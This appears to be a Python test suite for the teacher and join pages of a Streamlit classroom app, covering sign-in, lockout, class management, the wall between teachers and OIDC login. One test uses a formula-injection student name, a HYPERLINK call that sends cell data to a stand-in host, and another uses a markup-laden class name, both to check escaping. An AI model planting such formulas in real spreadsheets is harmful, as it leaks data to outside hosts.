"""Teacher pages with AppTest: sign-in messages, lockout, classes, the wall between teachers, students joining, OIDC."""

from __future__ import annotations

from streamlit.testing.v1 import AppTest

from lessonkit.auth.passwords import hash_password
from tests.conftest import ROOT
from ui.teacher.class_admin import SELECTED
from ui.text import plain

APP = str(ROOT / "app_script.py")
PASSWORD = "rahasia-guru-1"
HASH = hash_password(PASSWORD)
AUTH = {"redirect_uri": "http://localhost:8501/oauth2callback", "cookie_secret": "c" * 32, "client_id": "id",
        "client_secret": "s", "server_metadata_url": "https://accounts.example/.well-known/openid-configuration"}


def page(path: str = "app_pages/kelas.py", at: AppTest | None = None) -> AppTest:
    """Open ``path`` the way a browser does: the app runs once, then the page."""
    at = AppTest.from_file(APP, default_timeout=30) if at is None else at
    at.run()
    at.switch_page(path).run()
    return at


def fresh() -> AppTest:
    return AppTest.from_file(APP, default_timeout=30)


def texts(at: AppTest) -> str:
    parts = [e.value for kind in ("markdown", "caption", "info", "success", "warning", "error", "subheader", "code")
             for e in getattr(at, kind)]
    parts += [str(d.value) for d in at.dataframe] + [str(s.options) for s in at.selectbox]
    return "\n".join(parts)


def button(at: AppTest, label: str):
    return next(b for b in at.button if b.label == label)


def sign_in(at: AppTest, username: str = "sari", password: str = PASSWORD) -> AppTest:
    at.text_input(key="teacher_username").input(username)
    at.text_input(key="teacher_password").input(password)
    return button(at, "Masuk").click().run()


def test_without_any_teacher_the_page_names_the_command_to_make_one(store):
    at = page("app_pages/masuk_guru.py")
    assert "python -m lessonkit guru tambah" in texts(at)
    assert not [t for t in at.text_input if t.key == "teacher_password"], "no form without an account"


def test_a_teacher_page_without_a_session_shows_the_sign_in_form_and_no_data(store):
    sari = store.add_teacher("Sari", username="sari", password_hash=HASH)
    klass = store.create_class(sari.id, "XI IPS 2 · 2026/2027")
    at = page()
    assert not at.exception
    shown = texts(at)
    assert "Halaman ini khusus guru" in shown
    assert klass.name not in shown and klass.join_code not in shown
    assert at.text_input(key="teacher_username") and at.text_input(key="teacher_password")


def test_a_wrong_password_and_an_unknown_name_get_the_same_generic_message(store):
    store.add_teacher("Sari", username="sari", password_hash=HASH)
    at = sign_in(page("app_pages/masuk_guru.py"), password="salah-sekali")
    assert [e.value for e in at.error] == ["Nama pengguna atau kata sandi salah."]
    assert at.text_input(key="teacher_password").value == "", "the password field is emptied"
    assert at.text_input(key="teacher_username").value == "sari", "the username stays"
    at = sign_in(page("app_pages/masuk_guru.py"), username="tidak-ada")
    assert [e.value for e in at.error] == ["Nama pengguna atau kata sandi salah."]


def test_five_wrong_passwords_lock_the_account_and_the_page_says_so(store):
    store.add_teacher("Sari", username="sari", password_hash=HASH)
    at = page("app_pages/masuk_guru.py")
    for _ in range(5):
        sign_in(at, password="salah-sekali")
    assert "dikunci sementara; coba lagi dalam 15 menit" in at.error[0].value
    sign_in(at)
    assert "dikunci sementara" in at.error[0].value, "even the right password waits"
    assert at.title[0].value == "Masuk Guru" and "Anda masuk sebagai" not in texts(at)


def test_a_teacher_signs_in_creates_a_class_and_sees_students_who_joined(store):
    store.add_teacher("Sari Dewi", username="sari", password_hash=HASH)
    at = sign_in(page())
    assert not at.exception and not at.error
    at.text_input(key="class_name").input("XI IPS 2 · 2026/2027")
    at = button(at, "Buat kelas").click().run()
    [klass] = store.classes(store.teacher("sari").id)
    shown = texts(at)
    assert "Kelas **XI IPS 2 · 2026/2027** dibuat" in shown
    assert any(klass.join_code in h.proto.body for h in at.get("html")), "the code is shown large"
    assert f"/gabung?kelas={klass.join_code}" in shown
    ana = store.create_student("Ana <b>Putri</b>")
    store.join_class(ana.id, klass.join_code)
    at.run()
    assert "Ana <b>Putri</b>" in texts(at), "member names are shown as plain text in the table"


def test_a_formula_name_in_kelas_saya_reaches_the_table_escaped(store):
    sari = store.add_teacher("Sari", username="sari", password_hash=HASH)
    klass = store.create_class(sari.id, "XI IPS 2")
    attack = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
    store.join_class(store.create_student(attack).id, klass.join_code)
    at = sign_in(page())
    [names] = [list(d.value["Nama panggilan"]) for d in at.dataframe if "Nama panggilan" in d.value.columns]
    assert names == ["'" + attack]


def test_a_class_name_with_markup_is_shown_as_typed(store):
    store.add_teacher("Sari", username="sari", password_hash=HASH)
    at = sign_in(page())
    hostile = "**Tebal** :red[x] ![img](http://example.com/x.png)"
    at.text_input(key="class_name").input(hostile)
    at = button(at, "Buat kelas").click().run()
    assert f"Kelas **{plain(hostile)}** dibuat. Tunjukkan kodenya ke siswa." in texts(at)
    assert "example.com" not in "".join(h.proto.body for h in at.get("html"))


def test_the_teacher_closes_joins_issues_a_new_code_and_removes_a_student(store):
    sari = store.add_teacher("Sari", username="sari", password_hash=HASH)
    klass = store.create_class(sari.id, "XI IPS 2")
    ana, budi = store.create_student("Ana"), store.create_student("Budi")
    for student in (ana, budi):
        store.join_class(student.id, klass.join_code)
    at = sign_in(page())
    at.toggle(key=f"open_{klass.id}").set_value(False).run()
    assert not store.class_info(sari.id, klass.id).joins_open
    button(at, "Buat kode baru").click().run()
    assert store.class_info(sari.id, klass.id).join_code != klass.join_code
    at.selectbox(key="member_pick").set_value(ana.id)
    button(at, "Keluarkan dari kelas").click().run()
    assert [m.display_name for m in store.members(sari.id, klass.id)] == ["Budi"]
    assert store.student(ana.code) is not None, "removing keeps the student's records"
    at.selectbox(key="member_pick").set_value(budi.id)
    button(at, "Hapus data siswa").click().run()
    assert "Centang dulu" in texts(at) and store.student(budi.code) is not None
    at.checkbox(key="member_delete_sure").check()
    button(at, "Hapus data siswa").click().run()
    assert store.student(budi.code) is None and "sudah dihapus" in texts(at)


def test_teacher_b_cannot_reach_class_a_by_url_query_parameter_or_widget_state(store):
    sari = store.add_teacher("Sari", username="sari", password_hash=HASH)
    store.add_teacher("Budi", username="budi", password_hash=HASH)
    secret = store.create_class(sari.id, "Kelas Rahasia Sari")
    store.join_class(store.create_student("Ana").id, secret.join_code)
    at = fresh()
    at.query_params["kelas"] = str(secret.id)
    at.query_params["class_id"] = str(secret.id)
    sign_in(page(at=at), "budi")
    at.session_state[SELECTED] = secret.id
    at.run()
    shown = texts(at)
    assert "Belum ada kelas" in shown
    assert secret.name not in shown and secret.join_code not in shown and "Ana" not in shown
    at.text_input(key="class_name").input("Sejarah XI")
    at = button(at, "Buat kelas").click().run()  # the stale foreign id in the widget state is replaced
    shown = texts(at)
    assert at.selectbox(key=SELECTED).value != secret.id
    assert "Sejarah XI" in shown and secret.name not in shown and "Ana" not in shown


def test_signing_out_ends_the_session_at_once(store):
    store.add_teacher("Sari", username="sari", password_hash=HASH)
    at = sign_in(page())
    assert "Halaman ini khusus guru" not in texts(at)
    at = button(at, "Keluar (guru)").click().run()
    assert "Halaman ini khusus guru" in texts(at)
    with store._session() as session:
        from lessonkit.storage.models import TeacherSession

        assert all(row.revoked_at is not None for row in session.query(TeacherSession))


def test_a_student_with_an_unknown_class_code_keeps_what_was_typed_and_saves_nothing(store):
    at = page("app_pages/beranda.py")
    at.text_input(key="new_name").input("Ana")
    at.text_input(key="new_class").input("ZZZZZZ")
    at = button(at, "Mulai menyimpan").click().run()
    assert "Kode kelas itu tidak dikenal" in texts(at)
    assert at.session_state["student"] is None if "student" in at.session_state else True
    assert at.text_input(key="new_name").value == "Ana" and at.text_input(key="new_class").value == "ZZZZZZ"
    sari = store.add_teacher("Sari", username="sari")
    klass = store.create_class(sari.id, "XI IPS 2")
    at.text_input(key="new_class").input(klass.join_code.lower())
    at = button(at, "Mulai menyimpan").click().run()
    ana = at.session_state["student"]
    assert [c.name for c in store.student_classes(ana.id)] == ["XI IPS 2"]


def test_a_closed_class_says_so_on_the_join_page(store):
    sari = store.add_teacher("Sari", username="sari")
    klass = store.create_class(sari.id, "XI IPS 2")
    store.set_joins_open(sari.id, klass.id, False)
    at = fresh()
    at.query_params["kelas"] = klass.join_code
    page("app_pages/gabung.py", at)
    at.text_input(key="gabung_name").input("Ana")
    at = button(at, "Gabung dan simpan kemajuanku").click().run()
    assert "tidak menerima anggota baru" in texts(at) and "student" not in at.session_state or \
        at.session_state["student"] is None


def test_a_student_joins_from_the_link_and_can_leave_again(store):
    sari = store.add_teacher("Sari", username="sari")
    klass = store.create_class(sari.id, "XI IPS 2 · 2026/2027")
    at = fresh()
    at.query_params["kelas"] = klass.join_code
    page("app_pages/gabung.py", at)
    assert "Kamu diajak bergabung ke kelas" in texts(at)
    at.text_input(key="gabung_name").input("Ana")
    at = button(at, "Gabung dan simpan kemajuanku").click().run()
    assert "Kamu bergabung ke kelas" in texts(at)
    ana = at.session_state["student"]
    assert [m.display_name for m in store.members(sari.id, klass.id)] == ["Ana"]
    button(at, "Keluar dari kelas").click().run()
    assert store.student_classes(ana.id) == [] and store.student(ana.code) is not None


def test_a_school_account_on_the_teacher_list_is_signed_in_and_others_are_told_why_not(store):
    budi = store.add_teacher("Budi", email="budi@belajar.id")
    store.create_class(budi.id, "Sejarah XI")
    at = fresh()
    at.secrets["auth"] = AUTH
    at.user = {"is_logged_in": True, "email": "Budi@belajar.id", "email_verified": True}
    page(at=at)
    assert not at.exception and "Sejarah XI" in texts(at)
    stranger = fresh()
    stranger.secrets["auth"] = AUTH
    stranger.user = {"is_logged_in": True, "email": "siswa@belajar.id"}
    page(at=stranger)
    shown = texts(stranger)
    assert "Sejarah XI" not in shown and "belum terdaftar sebagai guru" in shown
    assert "guru tambah --email" in shown
    unverified = fresh()
    unverified.secrets["auth"] = AUTH
    unverified.user = {"is_logged_in": True, "email": "budi@belajar.id", "email_verified": False}
    page(at=unverified)
    assert "Sejarah XI" not in texts(unverified), "an unverified email is not trusted"


def test_the_school_account_button_appears_only_when_auth_is_configured(store):
    store.add_teacher("Sari", username="sari", password_hash=HASH)
    plain_app = page("app_pages/masuk_guru.py")
    assert not [b for b in plain_app.button if "akun sekolah" in b.label]
    at = fresh()
    at.secrets["auth"] = AUTH
    at.user = {"is_logged_in": False}
    page("app_pages/masuk_guru.py", at)
    assert [b.label for b in at.button if "akun sekolah" in b.label] == ["Masuk dengan akun sekolah"]


def test_teachers_declared_in_secrets_can_sign_in(store):
    at = fresh()
    at.secrets["guru"] = {"rina": {"nama": "Rina Wati", "sandi_hash": HASH}}
    page("app_pages/masuk_guru.py", at)
    sign_in(at, "rina")
    assert "Anda masuk sebagai **Rina Wati**" in texts(at)


def test_on_localhost_the_join_link_and_qr_use_the_laptops_network_address_and_the_teacher_is_told(
        store, monkeypatch):
    monkeypatch.setattr("ui.join_address._page_url", lambda: "http://localhost:8501/kelas")
    monkeypatch.setattr("ui.join_address._addresses", lambda: ["192.168.1.20"])
    store.add_teacher("Sari Dewi", username="sari", password_hash=HASH)
    at = sign_in(page())
    at.text_input(key="class_name").input("XI IPS 2")
    at = button(at, "Buat kelas").click().run()
    [klass] = store.classes(store.teacher("sari").id)
    assert f"http://192.168.1.20:8501/gabung?kelas={klass.join_code}" in [c.value for c in at.code]
    [warning] = [w.value for w in at.warning if "localhost" in w.value]
    assert "Anda membuka" in warning and "http://192.168.1.20:8501" in warning


def test_a_teacher_whose_name_ends_in_a_title_is_greeted_with_one_full_stop_and_as_anda(store):
    store.add_teacher("Sari Dewi, S.Pd.", username="sari", password_hash=HASH)
    at = sign_in(page("app_pages/masuk_guru.py"))
    greeting = f"Anda masuk sebagai **{plain('Sari Dewi, S.Pd.')}**"
    assert greeting in texts(at) and greeting + "." not in texts(at)
